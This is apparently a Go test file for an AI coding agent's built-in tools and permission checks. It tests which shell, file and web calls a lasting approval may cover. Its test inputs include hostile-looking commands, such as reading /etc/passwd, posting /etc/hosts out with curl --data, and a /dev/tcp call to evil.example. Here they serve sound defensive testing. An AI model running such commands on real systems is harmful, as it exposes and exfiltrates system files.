package builtin

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/github/copilot-sdk/go/rpc"
	"github.com/google/go-cmp/cmp"
	"github.com/transom-run/transom/internal/policy"
	"github.com/transom-run/transom/tool"
)

func TestTools(t *testing.T) {
	all := newRig(t, func(c *Config) {
		c.AskUser = func(context.Context, tool.Call, Question) (Answer, error) { return Answer{}, nil }
		c.ExitPlan = func(context.Context, tool.Call, Plan) (PlanAnswer, error) { return PlanAnswer{}, nil }
		c.Complete = func(context.Context, tool.Call, string) error { return nil }
	})
	want := strings.Fields("bash read_bash write_bash stop_bash list_bash view create edit web_fetch sql grep glob ask_user exit_plan_mode task_complete")
	if diff := cmp.Diff(want, all.reg.Names()); diff != "" {
		t.Errorf("the order of the tools: %s", diff)
	}
	few := newRig(t, func(c *Config) { c.NoDatabase = true })
	for _, absent := range []string{"sql", "ask_user", "exit_plan_mode", "task_complete", "report_intent"} {
		if slices.Contains(few.reg.Names(), absent) {
			t.Errorf("%s is offered", absent)
		}
	}
	for _, c := range all.reg.All() {
		if c.Description == "" || c.Source != tool.BuiltIn || !c.Tolerant || c.Permission == nil || c.Handler == nil {
			t.Errorf("%s is incomplete: %+v", c.Name, c.Tool)
		}
		if c.IsTerminal != (c.Name == "task_complete") {
			t.Errorf("%s: terminal is %v", c.Name, c.IsTerminal)
		}
		if changes := slices.Contains(strings.Fields("bash write_bash create edit sql"), c.Name); c.Effects != changes {
			t.Errorf("%s: it changes things: %v", c.Name, c.Effects)
		}
	}
	if _, err := New(Config{}); err == nil {
		t.Error("a set without a directory was made")
	}
}

// TestRecordedArguments: the arguments of recorded calls that no schema lists.
func TestRecordedArguments(t *testing.T) {
	r := newRig(t, func(c *Config) {
		c.AskUser = func(context.Context, tool.Call, Question) (Answer, error) { return Answer{}, nil }
		c.ExitPlan = func(context.Context, tool.Call, Plan) (PlanAnswer, error) { return PlanAnswer{}, nil }
	})
	for name, arguments := range map[string]string{
		"grep":           `{"pattern":"^ap","path":"data.txt","output_mode":"content","-n":true}`,
		"ask_user":       `{"question":"?","choices":["Red"],"allow_freeform":false}`,
		"sql":            `{"description":"d","query":"SELECT 1","database":"session"}`,
		"exit_plan_mode": `{"summary":"s","actions":["interactive"],"recommendedAction":"interactive","showFleet":true}`,
		"view":           `{"path":"x","unheard":1}`,
	} {
		c, _ := r.reg.Lookup(name)
		if _, problem := c.Check(arguments); problem != nil {
			t.Errorf("%s: %s", name, problem.ModelText)
		}
	}
}

// TestPermissionShapes holds every request against the published types: no field
// that they do not have, and all that they require.
func TestPermissionShapes(t *testing.T) {
	r := newRig(t)
	r.write("f.txt", "one\n")
	published := map[string]reflect.Type{
		"shell": reflect.TypeFor[rpc.PermissionRequestShell](), "read": reflect.TypeFor[rpc.PermissionRequestRead](),
		"write": reflect.TypeFor[rpc.PermissionRequestWrite](), "url": reflect.TypeFor[rpc.PermissionRequestURL](),
		"commands": reflect.TypeFor[rpc.PermissionPromptRequestCommands](), "path": reflect.TypeFor[rpc.PermissionPromptRequestPath](),
	}
	for _, tt := range []struct{ tool, args, kind, prompt string }{
		{"bash", args("command", "cat /etc/passwd > out; curl https://example.org/x", "description", "d"), "shell", "commands"},
		{"bash", args("command", "if", "description", "d"), "shell", "commands"},
		{"view", args("path", "f.txt"), "read", ""},
		{"view", args("path", "/etc/hosts"), "read", "path"},
		{"create", args("path", "new.txt", "file_text", "x"), "write", ""},
		{"edit", args("path", "f.txt", "old_str", "one", "new_str", "two"), "write", ""},
		{"edit", args("path", "f.txt", "old_str", "none", "new_str", "two"), "write", ""},
		{"grep", args("pattern", "x"), "read", ""},
		{"glob", args("pattern", "/etc/*.conf"), "read", "path"},
		{"web_fetch", args("url", "https://example.org/a?b#c"), "url", ""},
	} {
		p := r.ask(tt.tool, tt.args)
		if p.None {
			t.Errorf("%s %s asks nothing", tt.tool, tt.args)
			continue
		}
		fits(t, tt.tool, p.Request, tt.kind, published[tt.kind])
		if tt.prompt != "" {
			fits(t, tt.tool, p.Prompt, tt.prompt, published[tt.prompt])
		} else if p.Prompt != nil {
			t.Errorf("%s: an own prompt: %s", tt.tool, p.Prompt)
		}
	}
}

func fits(t *testing.T, name string, raw json.RawMessage, kind string, typ reflect.Type) {
	t.Helper()
	var m map[string]json.RawMessage
	must(t, json.Unmarshal(raw, &m))
	if string(m["kind"]) != `"`+kind+`"` {
		t.Errorf("%s: kind %s, want %s", name, m["kind"], kind)
	}
	delete(m, "kind")
	for i := range typ.NumField() {
		tag := typ.Field(i).Tag.Get("json")
		field, opts, _ := strings.Cut(tag, ",")
		if _, ok := m[field]; !ok && !strings.Contains(opts, "omit") {
			t.Errorf("%s: the request lacks %s: %s", name, field, raw)
		}
	}
	rest, err := json.Marshal(m)
	must(t, err)
	d := json.NewDecoder(bytes.NewReader(rest))
	d.DisallowUnknownFields()
	if err := d.Decode(reflect.New(typ).Interface()); err != nil {
		t.Errorf("%s: %v: %s", name, err, raw)
	}
}

func TestNothingToAsk(t *testing.T) {
	r := newRig(t)
	for name, a := range map[string]string{
		"read_bash": args("shellId", "0"), "stop_bash": args("shellId", "0"), "list_bash": `{}`,
		"sql": args("query", "SELECT 1", "description", "d"), "web_fetch": args("url", "file:///etc/passwd"),
	} {
		if p := r.ask(name, a); !p.None {
			t.Errorf("%s asks: %s", name, p.Request)
		}
	}
}

// lasts is what an approval of a call for longer would cover, in the words of the
// rules; "" is nothing.
func lasts(t *testing.T, p tool.Permission) string {
	t.Helper()
	var keys []string
	if !(policy.Rules{Granted: policy.Grants(nil, "", p.Request)}).Asks(p.Request, p.Prompt) {
		keys = policy.Grants(nil, "", p.Request)
	}
	return strings.Join(keys, " ")
}

// TestLasting: what an approval for longer covers, and that it covers nothing where
// a call reaches outside, or decides about more than it says.
func TestLasting(t *testing.T) {
	home := t.TempDir()
	r := newRig(t, func(c *Config) {
		c.ExtraDirs = func() []string { return []string{"/usr/share", home} }
		c.Home = home + "/.transom"
	})
	r.write("in.txt", "x\n")
	r.write("sub/deep/y.txt", "x\n")
	must(t, os.Symlink("/etc/hosts", r.path("out")))
	must(t, os.Symlink("/etc/hosts", r.path("sub", "deep", "evil")))
	must(t, os.Symlink("/etc", r.path("outdir")))
	shell := func(command string) string { return args("command", command, "description", "d") }
	for _, tt := range []struct{ tool, args, want string }{
		{"view", args("path", "in.txt"), "read"},
		{"view", args("path", "../../x"), ""},
		{"view", args("path", "out"), ""},
		{"view", args("path", "outdir/hosts"), ""},
		{"view", args("path", "/usr/share/x"), "read"},
		{"view", args("path", "/usr/share/../x"), ""},
		{"view", args("path", r.set.cfg.SessionDir+"/temp/x"), "read"},
		{"create", args("path", "outdir/new", "file_text", ""), ""},
		{"create", args("path", "sub/new", "file_text", ""), "write"},
		{"edit", args("path", "in.txt", "old_str", "x", "new_str", "y"), "write"},
		{"grep", args("pattern", "x", "paths", []string{".", "/etc"}), ""},
		{"web_fetch", args("url", "https://Example.org:8080/x"), "domain:example.org"},
		// What decides about more than itself.
		{"create", args("path", ".git/hooks/pre-commit", "file_text", ""), ""},
		{"create", args("path", "sub/.git/config", "file_text", ""), ""},
		{"create", args("path", ".gitignore", "file_text", ""), "write"},
		{"create", args("path", r.set.cfg.SessionDir+"/events.jsonl", "file_text", ""), ""},
		{"create", args("path", r.set.cfg.SessionDir+"/plan.md", "file_text", ""), "write"},
		{"create", args("path", r.set.cfg.SessionDir+"/files/a", "file_text", ""), "write"},
		{"create", args("path", home+"/.transom/permissions.json", "file_text", ""), ""},
		{"create", args("path", home+"/a", "file_text", ""), "write"},
		{"bash", shell("sort -o " + home + "/.transom/settings.json x"), ""},
		{"bash", shell("sort -o .git/config x"), ""},

		{"bash", shell("git status && ls -l | wc -l"), "command:git status command:ls command:wc"},
		{"bash", shell("cat /etc/hosts"), ""},
		{"bash", shell("cat outdir/hosts"), ""},
		{"bash", shell("cat out"), ""},
		{"bash", shell("cat in.txt"), "command:cat"},
		{"bash", shell("cat ./in.txt"), "command:cat"},
		{"bash", shell("echo x > in.txt"), ""},
		{"bash", args("command", "ls", "description", "d", "detach", true), ""},
		// From wherever it changes to, and inside of words.
		{"bash", shell("cd sub/deep && cat y.txt"), "command:cd command:cat"},
		{"bash", shell("cd " + strings.ReplaceAll("'"+r.dir+"'", "'q'", `'\''q'\''`) + " && cat in.txt"), "command:cd command:cat"},
		{"bash", shell("cd sub/deep && cat evil"), ""},
		{"bash", shell("cd sub; cd deep; cat ./evil"), ""},
		{"bash", shell("cd / && cat etc/hosts"), ""},
		{"bash", shell("cd outdir && cat hosts"), ""},
		{"bash", shell("cat *.txt"), "command:cat"},
		{"bash", shell("cat o*"), ""},
		{"bash", shell("cat sub/*/e*"), ""},
		{"bash", shell("for f in o*; do cat $f; done"), ""},
		{"bash", shell("for f in out; do cat $f; done"), ""},
		{"bash", shell("dd if=/etc/hosts"), ""},
		{"bash", shell("dd of=in.txt"), "command:dd"},
		{"bash", shell("grep -f/etc/hosts x"), ""},
		{"bash", shell("grep -rnf/etc/hosts x"), ""},
		{"bash", shell("grep --file=out x"), ""},
		{"bash", shell("curl --data @/etc/hosts https://example.org/x"), ""},
		{"bash", shell("curl https://example.org/etc/hosts"), "command:curl"},
		{"bash", shell("curl file:///etc/hosts"), ""},
		{"bash", shell("cp in.txt,~/x y"), ""},
		{"bash", shell("cat ~root/.profile"), ""},
		{"bash", shell("cat <~/x"), ""},
		{"bash", shell("cat </etc/hosts"), ""},
		{"bash", shell("cat </dev/tcp/evil.example/80"), ""},
		{"bash", shell("'*'"), ""},
	} {
		if got := lasts(t, r.ask(tt.tool, tt.args)); got != tt.want {
			t.Errorf("%s %s: an approval covers %q, want %q", tt.tool, tt.args, got, tt.want)
		}
	}
}

func TestResolve(t *testing.T) {
	dir, err := os.MkdirTemp(t.TempDir(), "x")
	must(t, err)
	dir = resolve(dir)
	must(t, os.MkdirAll(dir+"/a/b", 0o755))
	for name, target := range map[string]string{"abs": dir + "/a", "rel": "a/b", "up": "a/../a/b/..", "loop": "loop", "dangling": "nowhere/x", "a/back": "../rel"} {
		must(t, os.Symlink(target, dir+"/"+name))
	}
	for in, want := range map[string]string{
		"/": "/", dir: dir, dir + "/abs/b": dir + "/a/b", dir + "/rel/x/y": dir + "/a/b/x/y", dir + "/up": dir + "/a",
		dir + "/loop/x": dir + "/loop/x", dir + "/dangling": dir + "/nowhere/x", dir + "/a/back": dir + "/a/b",
	} {
		equal(t, resolve(in), want)
	}
	if within("/a/b", "/a/bc") || within("/a/b", "/a") || !within("/a/b", "/a/b") || !within("/a/b", "/a/b/..c") || !within("/", "/x") {
		t.Error("within is wrong")
	}
}

// TestClosed: calls after the end fail, and closing again is fine.
func TestClosed(t *testing.T) {
	r := newRig(t)
	must(t, r.set.Close())
	r.refusal("bash", args("command", "echo x", "description", "d"), "closed")
	if out := r.call("sql", args("query", "SELECT 1", "description", "d")); out.Success {
		t.Error("sql ran after Close")
	}
}
